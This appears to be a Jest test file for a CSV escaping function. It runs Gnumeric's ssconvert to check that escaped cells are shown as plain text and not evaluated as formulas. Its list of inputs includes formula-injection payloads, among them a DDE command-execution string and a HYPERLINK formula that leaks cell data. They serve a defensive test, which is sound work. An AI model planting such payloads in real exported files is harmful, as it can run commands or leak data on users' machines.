import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { csvCell } from '../../src/http/csv.js';
import { programMissing } from '../support/program.js';

jest.setTimeout(400_000);

/** Texts that a spreadsheet would work out, open or run. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '  =1+1',
  '=HYPERLINK("https://example.com/?"&A1,"more")',
  `=cmd|'/C calc'!A0`,
  '=1+1,=2+2',
  '=1+1"',
  '\uff1d1+1',
];
const missing = programMissing('ssconvert', 'gnumeric');
let folder: string;
beforeAll(() => (folder = mkdtempSync(join(tmpdir(), 'mealtext-sheet-'))));
afterAll(() => rmSync(folder, { recursive: true }));

/** The cells of a file of one column, as a spreadsheet program holds them once it has worked them out. */
function opened(cells: readonly string[]): string[] {
  const [csv, out] = [join(folder, 'in.csv'), join(folder, 'out.txt')];
  writeFileSync(csv, cells.map((cell) => `${cell}\r\n`).join(''));
  execFileSync('ssconvert', ['--recalc', '-T', 'Gnumeric_stf:stf_assistant', '-O', 'separator=| quoting-mode=never', csv, out], {
    stdio: 'pipe',
  });
  return readFileSync(out, 'utf8')
    .trimEnd()
    .split('\n')
    .map((line) => line.trimEnd());
}

if (missing) test.skip(`left out: ${missing}`, () => undefined);
else {
  test('a spreadsheet program works out what is not escaped', () => {
    expect(opened(['=1+1', 'an apple'])).toEqual(['2', 'an apple']);
  });

  test.each(FORMULAS)('%j is shown by a spreadsheet as it was written', (text) => {
    const [shown] = opened([csvCell(text)]);
    expect(shown!.replace(/^'/, '')).toBe(text);
  });
}
